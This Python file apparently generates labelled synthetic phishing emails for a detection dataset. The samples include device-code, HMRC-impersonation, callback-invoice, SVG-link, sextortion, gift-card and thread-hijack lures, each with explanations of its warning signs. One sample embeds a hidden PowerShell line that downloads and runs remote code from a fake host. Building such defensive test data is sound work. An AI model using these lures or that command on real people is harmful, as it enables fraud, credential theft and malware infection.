"""Attack messages 09-16, English."""
from common import *

F = "attack"


def a09():
    t = T("2026-11-03 10:41:26", "UK")
    frm = ("Rebecca Hollis", "r.hollis@epc-congress.org")
    code = "CKX7M2QPD"
    text = """Dear Emma,

I am contacting you on behalf of the organising committee of the European Pharmacovigilance Congress 2027, which will take place at the Centro de Congressos de Lisboa from 18 to 20 March 2027.

We are looking for an agency to provide simultaneous interpreting for the plenary sessions (EN <> DE, FR and ES, three booths, six interpreters) and consecutive interpreting for two closed regulatory workshops. Your agency was recommended to us by one of our sponsors.

Our briefing pack (draft programme, speaker list, slides received so far and the EMA terminology list) is held in our secure Microsoft 365 workspace. To open it, please go to

https://microsoft.com/devicelogin

and enter the access code %s, then sign in with your usual work account. The code is valid for 15 minutes; if it has expired by the time you read this, just reply and I will send you a new one straight away.

We would be grateful to receive your availability and an indicative quotation by Friday 6 November.

Kind regards,

Rebecca Hollis
Congress Coordinator
European Pharmacovigilance Congress 2027
""" % code
    return mk(F, 9, "en", "device-code-phishing-congress",
              infra=P(I.m365, org="epc-congress.org", pod="DB9PR02MB", region="eurprd02", lang="en-GB"),
              frm=frm, to=[S("uk_sales")], subject="Interpreting request – European Pharmacovigilance Congress, Lisbon, 18–20 March 2027",
              t=t, zone="UK",
              body=lambda k: alt(k, text, html_outlook(text, "utf-8", "EN-GB"), "utf-8", quote_cs=True),
              tags=["device-code phishing", "trade-specific lure", "fresh Microsoft 365 tenant", "abused genuine service"],
              what="Interpreting-tender lure from a 'congress coordinator' asking the interpreting coordinator to open a briefing pack by entering a code at microsoft.com/devicelogin.",
              why="Device-code phishing: the real Microsoft page is used to grant the attacker's device a token for the victim's account; 15-minute code and offer to resend are tell-tale; newly created tenant/domain with no prior relationship.",
              pair="business 16")


def a10():
    t = T("2026-10-29 15:22:04")
    frm = ("LQA Review Center", "notifications@lqa-reviewcenter.com")
    cmd = "powershell -w h -nop -c \"iex(irm 'https://cdn.lqa-reviewcenter.com/v/7731')\"  # Verification ID: 7731-RTX"
    page = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Reviewer feedback – PRJ-20871</title>
<style>body{font-family:-apple-system,"Segoe UI",Roboto,Arial,sans-serif;background:#fafafa;color:#1d1d1d;margin:0}
.wrap{max-width:620px;margin:60px auto;background:#fff;border:1px solid #ddd;border-radius:6px;padding:36px}
.chk{border:1px solid #d9d9d9;border-radius:4px;padding:14px 16px;margin:20px 0;background:#f9f9f9}
pre{background:#111;color:#7CFC00;padding:12px;white-space:pre-wrap;word-break:break-all;font-size:12px}
ol li{margin:6px 0}</style></head>
<body><div class="wrap">
<h2>Verify you are human</h2>
<p>lqa-reviewcenter.com needs to review the security of your connection before showing the reviewer comments for <b>PRJ-20871 (EN&gt;DE, 12,480 words)</b>.</p>
<div class="chk">&#9744; I'm not a robot &nbsp; <span style="color:#999;font-size:12px">Verification failed – complete the steps below</span></div>
<p><b>Verification steps</b></p>
<ol>
<li>Press <b>Windows Key + R</b></li>
<li>Copy the verification line below and press <b>CTRL + V</b> in the window that opens</li>
<li>Press <b>Enter</b> to complete verification</li>
</ol>
<pre>{CMD}</pre>
<p style="font-size:12px;color:#888">Ray ID: 8f2c41aa7d03e1b9 &middot; Performance &amp; security by Cloudflare</p>
</div></body></html>
""".replace("{CMD}", esc(cmd))
    text = """Hello Martina,

The reviewer has completed the linguistic quality assessment for the following job:

Project: PRJ-20871 – Operating manual, hydraulic press series HP-400
Language pair: EN > DE
Volume: 12,480 words
LQA score: 91.4 (threshold 95.0) – 7 major, 19 minor errors

Please review the reviewer's comments in the attached feedback file and accept or dispute each finding within 48 hours. Findings that are not disputed by the deadline are accepted automatically and the score is applied to the vendor rating.

LQA Review Center – automated notification
"""
    return mk(F, 10, "en", "clickfix-lqa-feedback-html",
              infra=P(I.vps, helo="mail.lqa-reviewcenter.com", ip="164.92.183.40", rdns=None, mode="php"),
              frm=frm, to=[S("it_pm")], subject="LQA feedback received for PRJ-20871 (EN>DE) – please respond within 48 hours", t=t,
              body=lambda k: Multi("mixed", [Text(text, "plain", "utf-8", "quoted-printable"),
                                             HTMLA("LQA_Feedback_PRJ-20871.html", page, "HTML fake CAPTCHA with Win+R PowerShell instructions (ClickFix), no script")], k.bd()),
              tags=["ClickFix (paste-and-run)", "HTML attachment", "trade-specific lure"],
              what="Fake LQA (linguistic quality assessment) platform notice; the attached 'feedback' HTML shows a fake 'Verify you are human' page telling the user to paste a PowerShell line into Win+R.",
              why="ClickFix social engineering: the user is made to run a download-and-execute command themselves; sender domain on a DigitalOcean VPS without reverse DNS, PHPMailer; no such platform is used by the company. The page itself contains no script.")


def a11():
    t = T("2026-11-12 09:03:51", "UK")
    frm = ("HM Revenue & Customs", "no-reply@hmrc-repayments-online.uk")
    url = "https://www.gov.uk.vat-repayment-hmrc.co.uk/business-tax-account/sign-in?ref=VRN314820777&c=" + b64u(S("uk_acc")[1])
    vrn = ids.gb_vat("3148207")[2:]
    text = """HM Revenue & Customs

Example Group UK Ltd
VAT registration number: %s

We've reviewed your VAT Return for the period 07 26 and you're due a VAT repayment of £4,268.90.

Before we can release this repayment, you need to confirm the bank account we should pay it into. Sign in to your HMRC business tax account using your Government Gateway user ID and password:

%s

If you do not confirm your bank details within 5 working days, the repayment will be held and we may need to carry out further checks, which can delay payment by up to 30 days.

Yours faithfully

VAT Repayments Team
HM Revenue and Customs
""" % (vrn, url)
    inner = ("<p style='font-size:19px'><b>VAT repayment due</b></p>"
             "<p>Example Group UK Ltd<br>VAT registration number: %s</p>"
             "<p>We've reviewed your VAT Return for the period 07 26 and you're due a VAT repayment of <b>£4,268.90</b>.</p>"
             "<p>Before we can release this repayment, you need to confirm the bank account we should pay it into. "
             "Sign in to your HMRC business tax account using your Government Gateway user ID and password.</p>" % vrn
             + button(url, "Sign in to confirm your bank details", "#00703c") +
             "<p>If you do not confirm your bank details within 5 working days, the repayment will be held and we may need to carry out "
             "further checks, which can delay payment by up to 30 days.</p><p>VAT Repayments Team<br>HM Revenue and Customs</p>")
    html = phish_html("GOV.UK", "#0b0c0c", inner, "This is an automated email – please do not reply.", lang="en")
    return mk(F, 11, "en", "hmrc-vat-repayment-phish-mailgun",
              infra=P(I.mailgun, mg_domain="mg.hmrc-repayments-online.uk"),
              frm=frm, to=[S("uk_acc")], subject="VAT repayment of £4,268.90 – confirm your bank details", t=t, zone="UTC",
              bstyle="hex",
              body=lambda k: alt(k, text, html, "utf-8", "quoted-printable"),
              tags=["credential phishing", "national tax office impersonation", "abused ESP (Mailgun)"],
              what="'HMRC' tells the UK accountant a VAT repayment of £4,268.90 is held until bank details are confirmed via Government Gateway sign-in.",
              why="Tax-refund credential phishing: link goes to gov.uk.vat-repayment-hmrc.co.uk (the gov.uk label is only a subdomain), sender domain unrelated to gov.uk and sent via Mailgun; HMRC never asks for Government Gateway credentials by email link.",
              pair="business 12")


def a12():
    t = T("2026-12-01 07:12:44", "UK")
    frm = ("Microsoft 365 Billing", "billing.ms365renewals@gmail.com")
    phone = "+44 20 3808 4471"
    inv = pdf([[(15, True, "INVOICE"), "Invoice number: INV-88417", "Invoice date: 01/12/2026", "Customer ID: MS-UK-5501893", "",
                "Bill to: Oliver Bennett, Example Group UK Ltd, 55 King Street, Manchester M2 4LQ", "",
                (11, True, "Microsoft 365 Business Premium – annual renewal"),
                "Licences: 25      Term: 01/12/2026 – 30/11/2027", "Subtotal: £1,562.49", "VAT (20%): £312.50",
                (11, True, "Total charged: £1,874.99"), "Payment method: card on file ending 4471", "",
                "If you did not authorise this renewal or wish to cancel and receive a full refund,",
                "please call our billing support team within 24 hours:", (13, True, phone), "Mon–Sat 8am–8pm", "",
                (8, False, "Refunds are only possible by phone. Please keep your invoice number ready.")]],
              title="INV-88417", creator="Microsoft Word", producer="Microsoft: Print To PDF", date=pdfdate(t, "+00'00'"))
    text = """Dear Customer,

Thank you for your continued business.

Your Microsoft 365 Business Premium subscription (25 licences) has been renewed automatically for another 12 months and your card on file has been charged £1,874.99. Your invoice INV-88417 is attached.

If you did not authorise this renewal or would like to cancel and receive a refund, please contact our billing team within 24 hours on %s (Mon–Sat, 8am–8pm). After this period the charge is non-refundable.

Kind regards,
Microsoft 365 Billing Team
""" % phone
    return mk(F, 12, "en", "callback-toad-fake-renewal-pdf",
              infra=P(I.gmail), frm=frm, to=[S("uk_mgr")], subject="Your subscription has been renewed – Invoice INV-88417",
              t=t, zone="UTC",
              body=lambda k: Multi("mixed", [alt(k, text, html_gmail(text), "UTF-8", "quoted-printable"),
                                             PDF("INV-88417.pdf", inv, fn_style="plain")], k.bd()),
              tags=["callback phishing (TOAD)", "brand / service impersonation", "free mailer", "PDF lure without links"],
              what="Fake Microsoft 365 renewal 'invoice' for £1,874.99 from a Gmail address; only a phone number to call for a refund, repeated in the PDF.",
              why="Telephone-oriented attack delivery: no links or malware, the call centre then walks the victim into remote-access software or a bank transfer; Microsoft does not bill from Gmail; amount and card details invented.",
              pair="business 09")


def a13():
    t = T("2026-11-04 13:07:35", "UK")
    frm = ("Voicemail Service", "voicemail@hartleydentalcare.co.uk")
    url = "https://voicemsg-portal.com/play/?m=VM-0047-2611&u=" + b64u(S("uk_sales")[1])
    svg = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="440" height="230" viewBox="0 0 440 230">
  <rect width="440" height="230" rx="14" fill="#f4f6f8" stroke="#d0d7de"/>
  <text x="28" y="48" font-family="Segoe UI, Arial, sans-serif" font-size="19" fill="#1f2d3d">New voice message</text>
  <text x="28" y="80" font-family="Segoe UI, Arial, sans-serif" font-size="13" fill="#57606a">From: +44 161 496 0732</text>
  <text x="28" y="100" font-family="Segoe UI, Arial, sans-serif" font-size="13" fill="#57606a">Received: Wed 04/11/2026 12:58 · Length 0:47</text>
  <rect x="28" y="120" width="384" height="6" rx="3" fill="#d0d7de"/>
  <a xlink:href="{URL}" href="{URL}" target="_blank">
    <rect x="28" y="150" width="200" height="46" rx="23" fill="#2563eb"/>
    <text x="62" y="179" font-family="Segoe UI, Arial, sans-serif" font-size="16" fill="#ffffff">&#9654; Play message</text>
  </a>
</svg>
""".replace("{URL}", url.replace("&", "&amp;"))
    text = """You have received a new voice message.

Caller: +44 161 496 0732
Received: Wednesday 4 November 2026, 12:58
Duration: 0:47

The message is attached to this email. Open the attachment to play it.

Voicemail Service
"""
    a = Attach("image/svg+xml", svg.encode(), "VM_+441614960732_0m47s.svg", fn_style="plain")
    a.note = "SVG with a 'Play message' hyperlink, no script"
    return mk(F, 13, "en", "voicemail-svg-attachment-compromised",
              infra=P(I.hosted, provider="cpanel", origin_ip="91.92.240.118", host="cp12.ukwebhostgroup.co.uk", ip="185.151.28.62",
                      mailer="PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)", style="generic", zone="UK"),
              frm=frm, to=[S("uk_sales")], subject="New voicemail from +44 161 496 0732 (0:47)", t=t, zone="UK", bstyle="php",
              body=lambda k: Multi("mixed", [Text(text, "plain", "us-ascii", "7bit"), a], k.bd()),
              tags=["SVG attachment", "brand / service impersonation", "compromised small-business mailbox"],
              what="'New voicemail' notice with an SVG attachment that renders a player with a 'Play message' link to a phishing page (recipient address encoded in the URL).",
              why="SVG used as a link carrier to slip past attachment filters; sent from a hacked dental practice's cPanel mailbox; the company's phone system does not e-mail voicemails from third-party domains.")


def a14():
    t = T("2026-10-09 03:44:12", "UTC")
    me = S("uk_mgr")
    btc = BTC
    text = """Hello!

I have some bad news for you. Several months ago I gained access to the devices you use to browse the internet. Since then I have been watching your online activity.

I infected your computer through a website you visited; the malware gave me full access to your microphone, webcam, browser history and contacts. It is updated every few hours, so your antivirus cannot see it. That is also how I sent this email from your own address.

I recorded a video of you while you were visiting certain websites and I collected the contact list from your email and messengers. With one click I can send that video to all your colleagues, clients and family.

If you want to prevent this, transfer USD 1650 in Bitcoin (BTC) to my wallet:

%s

If you do not know how to buy Bitcoin, search "how to buy bitcoin" on Google. You have 48 hours from the moment you open this email. I will know when you have read it. After payment I will delete the video and the malware and you will never hear from me again.

Do not reply to this email and do not contact the police - I will notice and publish everything immediately.
""" % btc
    return mk(F, 14, "en", "sextortion-spoofed-self-btc",
              infra=P(I.direct, helo="example.com", ip="177.37.140.22", rdns="177-37-140-22.dsl.telesp.net.br",
                      mailer="Microsoft Outlook Express 6.00.2900.5512"),
              frm=me, to=[me], subject="Your account has been hacked - please read carefully", t=t, zone="UTC",
              msgid="<000d01dc5781$2be19a40$8a1f0b3c@example.com>",
              body=lambda k: Text(text, "plain", "us-ascii", "7bit"),
              tags=["extortion (sextortion)", "own-address spoofing", "cryptocurrency (bech32 BTC)", "botnet direct-to-MX"],
              what="Sextortion: claims malware recorded the manager via webcam, demands USD 1,650 in Bitcoin to a bech32 address within 48 hours.",
              why="Mass extortion scam; From/To spoof the victim's own address, delivered without TLS straight from a Brazilian DSL bot that HELOs as example.com; no authentication possible; bluffed threats.",
              pair="business 15")


def a15():
    t = T("2026-12-09 09:18:30", "UK")
    frm = ("Oliver Bennett", "oliver.bennett.mcr@gmail.com")
    text = """Hi Emma,

Are you at your desk? I'm tied up in back-to-back meetings at Northbridge today and can't take calls.

I need a small favour handled discreetly: I'd like to thank a few of our regular interpreters before Christmas. Could you pick up 8 Apple gift cards at £100 each on your lunch break (Tesco or Boots will have them) and keep it between us for now - it's meant to be a surprise.

Once you have them, scratch off the backs, take a clear photo of each card showing the code and email the photos to me here. I'll reimburse you today, just keep the receipt.

Thanks,
Oliver

Sent from my iPhone
"""
    return mk(F, 15, "en", "gift-card-manager-impersonation",
              infra=P(I.gmail), frm=frm, to=[S("uk_sales")], subject="Quick favour", t=t, zone="UK",
              body=lambda k: alt(k, text, html_gmail(text), "UTF-8", "quoted-printable"),
              tags=["gift-card scam", "staff impersonation via free mailer"],
              what="'Oliver Bennett' (UK office manager) on a Gmail address asks a colleague to buy eight £100 Apple gift cards and send photos of the codes.",
              why="Gift-card fraud: impersonation via unknown Gmail address, unreachable by phone, secrecy, unusual payment method and request for card codes by email.",
              pair="business 15")


def a16():
    t = T("2026-11-17 05:47:19", "UK")
    frm = CORR["thames"]
    link = "https://thameslegal-my.sharepoint.com/:o:/g/personal/m_clarkson_thameslegal_co_uk/EsQ1a7xP3vVNh2K8Zt0q9mUBf3k4RJ2z8dYwq7cN1pQ6gA?e=K2vR8x"
    prev_emma = "<7c1e55a09b3d4f0e8a61d2c94b7e3f20@EXCH01.ad.example.com>"
    prev_james = "<LO4P265MB6112B8C0E5D1A2F9C0D3E8A7B6C5D4E3@LO4P265MB6112.GBRP265.PROD.OUTLOOK.COM>"
    quoted = """From: Emma Clarke <emma.clarke@example.com>
Sent: 10 November 2026 16:02
To: James Harper <j.harper@thameslegal.co.uk>
Subject: RE: Certified translations – witness statements (our ref TL/4471/JH)

Dear James,

Thank you – we have downloaded the 14 witness statements (Polish and Lithuanian into English). Our certified translations will be ready by Friday 20 November; the invoice will follow with the delivery.

Kind regards
Emma

Emma Clarke
Sales & Interpreting Coordinator | Example Group UK Ltd
55 King Street, Manchester M2 4LQ

From: James Harper <j.harper@thameslegal.co.uk>
Sent: 10 November 2026 11:37
To: Emma Clarke <emma.clarke@example.com>
Subject: Certified translations – witness statements (our ref TL/4471/JH)

Dear Emma,

Further to our call, I have shared the witness statements with you on SharePoint (folder "TL-4471 Witness statements"). Could you confirm receipt and the delivery date?

Best regards
James"""
    top = """Hi Emma,

Further to the below, please find the updated engagement letter and remittance advice for the witness statements (our ref TL/4471/JH) at the secure link below. Our accounts team has asked that you review and acknowledge before they release payment today.

Remittance_Advice_TL-4471.pdf
%s

Kind regards,

James Harper
Senior Associate | Thames Legal LLP
""" % link
    text = top + "\n" + quoted + "\n"
    extra_html = ('<div style="border:1px solid #c8c8c8;padding:12px;width:420px;font-family:Segoe UI,Arial;font-size:13px">'
                  '<b>James Harper shared a file with you</b><br><br>&#128196; <a href="%s">Remittance_Advice_TL-4471.pdf</a><br>'
                  '<span style="color:#666">This link will work for people in your organisation and guests.</span></div>' % link)
    html = html_outlook(top.replace(link + "\n", ""), "utf-8", "EN-GB", extra_html +
                        '<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"></div>'
                        + "".join('<p class="MsoNormal">%s</p>' % (esc(x) or "&nbsp;") for x in quoted.split("\n")))
    return mk(F, 16, "en", "thread-hijack-compromised-client-sharepoint",
              infra=P(I.m365, org="thameslegal.co.uk", pod="LO4P265MB", region="GBRP265", lang="en-GB"),
              frm=frm, to=[S("uk_sales")], subject="RE: Certified translations – witness statements (our ref TL/4471/JH)", t=t,
              zone="UK", irt=prev_emma, refs=prev_james + "\n " + prev_emma,
              body=lambda k: alt(k, text, html, "utf-8"),
              tags=["thread hijack", "compromised partner mailbox (account takeover)", "abused genuine service", "credential phishing"],
              what="Reply in a genuine thread from the client's real mailbox: 'remittance advice' behind a SharePoint link, to be acknowledged before payment today.",
              why="Account takeover at a customer: genuine domain and Microsoft 365 infrastructure, but the link is a OneNote notebook (:o:) in another user's personal OneDrive posing as a PDF, the request does not fit the thread (a client sending 'remittance' that needs a login), sent at 05:47 with urgency.",
              pair="business 13")


ATTACKS = [a09, a10, a11, a12, a13, a14, a15, a16]
